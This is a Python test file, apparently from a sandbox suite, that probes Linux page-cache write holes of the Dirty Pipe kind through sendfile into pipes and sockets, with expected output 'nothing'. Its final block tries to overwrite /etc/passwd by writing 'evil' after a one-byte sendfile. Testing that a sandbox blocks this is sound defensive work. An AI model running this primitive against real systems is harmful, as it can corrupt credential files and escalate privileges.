# Dirty Pipe without splice: since Linux 5.12 sendfile too puts a file's own pages into a pipe, and into sockets,
# where Copy Fail's kin decrypted them in place. Told by a file that is changed while its page is on the way.
# hole: CVE-2022-0847, CVE-2026-43284, CVE-2026-46300 (Linux): writes into pages that are the file's cache
# stopped by: filter
# expect: {"status": "ok", "stdout": "nothing\n", "stderr": ""}
import os, socket


def by_reference(name, out, into):
    with open("file", "w+b") as file:
        file.write(b"before" * 100)
        file.flush()
        try:
            count = os.sendfile(out, file.fileno(), 0, 600)
        except OSError:
            return  # callers fall back to read and write
        os.pwrite(file.fileno(), b"after!" * 100, 0)
        if b"after!" in into(count):
            print(f"a page of the file is in the {name}")


r, w = os.pipe()
by_reference("pipe", w, lambda count: os.read(r, count))
a, b = socket.socketpair()
by_reference("local socket", a.fileno(), b.recv)
server = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(server.getsockname())
other = server.accept()[0]
by_reference("TCP socket", client.fileno(), other.recv)
target = os.open("/etc/passwd", os.O_RDONLY)
before = os.pread(target, 64, 0)
try:
    os.sendfile(w, target, 0, 1)
    os.write(w, b"evil")
except OSError:
    pass
if os.pread(target, 64, 0) != before:
    print("wrote into /etc/passwd")
print("nothing")
